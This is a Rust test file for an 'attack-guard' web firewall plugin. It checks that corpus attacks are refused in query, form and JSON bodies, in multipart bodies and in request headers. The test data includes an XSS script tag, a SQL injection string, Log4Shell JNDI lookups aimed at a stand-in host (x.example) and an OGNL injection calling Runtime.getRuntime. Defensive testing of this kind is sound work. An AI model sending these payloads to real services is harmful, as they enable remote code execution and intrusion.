//! attack-guard on its own corpus, through the rule book: each case as a query parameter, as a form's field and inside JSON.

use std::fmt::Write as _;
use std::fs;
use std::path::{Path, PathBuf};

use bytes::Bytes;

use super::*;
use crate::config::Mode;
use crate::script::BodyFacts;

/// The least share of attacks that is refused, and the most everyday texts that are, in percent.
const REFUSED_MIN: usize = 95;
const ALARMS_MAX: usize = 1;

fn corpus() -> PathBuf {
    match std::env::var_os("ATTACK_CORPUS") {
        Some(folder) => folder.into(),
        None => Path::new(env!("CARGO_MANIFEST_DIR")).join("plugins/attack-guard/corpus"),
    }
}

fn cases(file: &Path) -> Vec<String> {
    let text = fs::read_to_string(file).unwrap();
    let lines = text.lines().filter(|l| !l.is_empty() && !l.starts_with("##"));
    lines.map(|l| l.replace("\\n", "\n")).collect()
}

fn escaped(text: &str) -> String {
    text.bytes().fold(String::new(), |mut out, b| {
        if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
            out.push(char::from(b));
        } else {
            let _ = write!(out, "%{b:02X}");
        }
        out
    })
}

fn is_refused(book: &RuleBook, target: &str, body: Option<(&'static str, String)>) -> bool {
    let mut facts = plain_facts("POST", target);
    let (kind, body) = body.unwrap_or(("text/plain", String::new()));
    facts.headers.insert("content-type", kind.parse().unwrap());
    facts.give_body(BodyFacts::new(kind, Bytes::from(body)));
    let facts = Arc::new(facts);
    [Hook::Request, Hook::Body].into_iter().any(|hook| {
        let decision = book.run(hook, &facts, None, &mut Ledger::new(), &still());
        matches!(decision, Decision::Refuse { .. })
    })
}

/// In how many of the three places a case is refused.
fn places(book: &RuleBook, case: &str) -> [bool; 3] {
    let form = format!("a=1&text={}", escaped(case));
    let json = serde_json::json!({ "a": 1, "text": case }).to_string();
    [
        is_refused(book, &format!("/search?q={}", escaped(case)), None),
        is_refused(book, "/", Some(("application/x-www-form-urlencoded", form))),
        is_refused(book, "/", Some(("application/json", json))),
    ]
}

/// The plugin alone, enforcing.
fn guard() -> RuleBook {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let word = PluginOverride { mode: Some(Mode::Enforce), ..PluginOverride::default() };
    let overrides = BTreeMap::from([("attack-guard".to_owned(), word)]);
    let folders = Folders { plugins: &root.join("plugins"), scripts: &root.join("scripts"), root };
    let (book, problems) = RuleBook::load(folders, &overrides);
    assert!(!problems.has_errors(), "{}", problems.render());
    RuleBook::new(
        book.into_plugins().into_iter().filter(|p| &*p.name == "attack-guard").collect(),
        Vec::new(),
    )
}

#[test]
fn attack_guard_refuses_the_attacks_of_its_corpus_and_lets_everyday_texts_pass() {
    let book = guard();
    on_worker(move || {
        let mut files: Vec<_> = fs::read_dir(corpus()).unwrap().map(|e| e.unwrap().path()).collect();
        files.retain(|f| f.extension().is_some_and(|e| e == "txt"));
        files.sort();
        let (mut attacks, mut everyday, mut wrong) = ([0; 2], [0; 2], String::new());
        println!("{:<18} {:>6} {:>9}", "class", "cases", "refused");
        for file in files {
            let class = file.file_stem().unwrap().to_string_lossy().into_owned();
            let benign = class.starts_with("benign") || class == "webhook";
            let cases = cases(&file);
            let mut refused = 0;
            for case in &cases {
                let places = match class.as_str() {
                    "webhook" => {
                        [is_refused(&book, "/hook", Some(("application/json", case.replace('\n', "\\n")))); 3]
                    }
                    _ => places(&book, case),
                };
                // An everyday text must pass everywhere; an attack must be refused everywhere.
                let counts = if benign { places.contains(&true) } else { !places.contains(&false) };
                refused += usize::from(counts);
                if counts == benign {
                    let _ = writeln!(wrong, "{class:<18} {places:?} {case}");
                }
            }
            println!("{class:<18} {:>6} {:>7} %", cases.len(), 100 * refused / cases.len());
            let sum = if benign { &mut everyday } else { &mut attacks };
            *sum = [sum[0] + cases.len(), sum[1] + refused];
        }
        println!("attacks {}/{}, everyday {}/{}", attacks[1], attacks[0], everyday[1], everyday[0]);
        println!("{wrong}");
        assert!(attacks[1] * 100 >= attacks[0] * REFUSED_MIN, "too many attacks pass:\n{wrong}");
        assert!(
            everyday[1] * 100 <= everyday[0] * ALARMS_MAX,
            "too many everyday texts are refused:\n{wrong}"
        );
    });
}

#[test]
fn the_form_of_a_body_hides_no_attack() {
    let part = "--X\r\nContent-Disposition: form-data; name=\"q\"\r\n";
    let attack = "<script>alert(1)</script>";
    let file = "--X\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\n\r\nx\r\n";
    let multipart = |kind: &'static str, body: String| (kind, body.into_bytes());
    let plain = "multipart/form-data; boundary=X";
    let cases = [
        multipart(plain, format!("{part}\r\n{attack}\r\n--X--\r\n")),
        multipart(plain, format!("{part}\r\na--X{attack}\r\n--X--\r\n")),
        multipart(plain, format!("{part}X-A: filename=\"a\"\r\n\r\n{attack}\r\n--X--\r\n")),
        multipart("multipart/form-data; boundary=X; a=b", format!("{file}{part}\r\n{attack}\r\n--X--\r\n")),
        ("application/x-www-form-urlencoded", b"q=' or 1=1-- &z=\xff".to_vec()),
        ("text/plain", b"\xff <script>alert(1)</script>".to_vec()),
    ];
    let book = guard();
    on_worker(move || {
        for (kind, body) in cases {
            let shown = String::from_utf8_lossy(&body).into_owned();
            let mut facts = plain_facts("POST", "/");
            facts.headers.insert("content-type", kind.parse().unwrap());
            facts.give_body(BodyFacts::new(kind, Bytes::from(body)));
            let decided = decide(&book, Hook::Body, facts).0;
            assert!(decided.starts_with("403 attack."), "{decided}: {shown}");
        }
        let mut harmless = plain_facts("POST", "/");
        harmless.headers.insert("content-type", plain.parse().unwrap());
        let body = format!("{file}{part}\r\nhello & goodbye\r\n--X--\r\n");
        harmless.give_body(BodyFacts::new(plain, Bytes::from(body)));
        assert_eq!(decide(&book, Hook::Body, harmless).0, "pass");
    });
}

#[test]
fn a_header_that_browsers_write_is_judged_where_it_holds_what_they_never_write() {
    let book = guard();
    on_worker(move || {
        for (name, value, refused) in [
            ("accept-language", "${jndi:ldap://x.example/a}", true),
            ("content-type", "%{(#_='multipart/form-data').(#x=@java.lang.Runtime@getRuntime())}", true),
            ("sec-foo", "<script>alert(1)</script>", true),
            ("referer", "http://${jndi:ldap://x.example/a}", true),
            ("referer", "x://${jndi:dns:x.example}", true),
            ("referer", "https://shop.example/search?q=red+shoes&page=2", false),
            ("accept", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8", false),
            ("sec-ch-ua", "\"Chromium\";v=\"126\", \"Not(A:Brand\";v=\"8\"", false),
            ("authorization", "Basic ${jndi:ldap://x.example/a}", false),
        ] {
            let mut facts = plain_facts("GET", "/");
            facts.headers.insert(name, value.parse().unwrap());
            let decided = decide(&book, Hook::Request, facts).0;
            assert_eq!(decided.starts_with("403 attack."), refused, "{name}: {value}: {decided}");
        }
    });
}
